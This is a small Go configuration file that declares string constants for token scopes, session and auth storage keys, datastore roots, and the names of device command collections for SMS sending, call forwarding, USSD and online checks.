package conf

// token scopes
const (
	ScopeProfile = "profile"
	ScopeTab     = "tab"
)

// local storage keys
const (
	SessionIDKey      = "SESSION_ID"
	AuthTokenKey      = "auth_token"
	AuthRevokedKey    = "auth_revoked"
	WorkspacePrefix   = "dbPath_"
	ForceLogoutPrefix = "force_logout_"
)

// store roots
const (
	PresenceRoot    = "presence"
	RevocationsRoot = "revocations"
	UsersRoot       = "users"
	BlocklistRoot   = "blocklist"
	AccountsRoot    = "auth/accounts"
	EmailsRoot      = "auth/emails"
)

// device command collections
const (
	SmsSendCommands     = "sms_send_commands"
	CallForwardCommands = "call_forward_commands"
	UssdCommands        = "ussd_commands"
	CheckOnlineCommands = "check_online_commands"
)
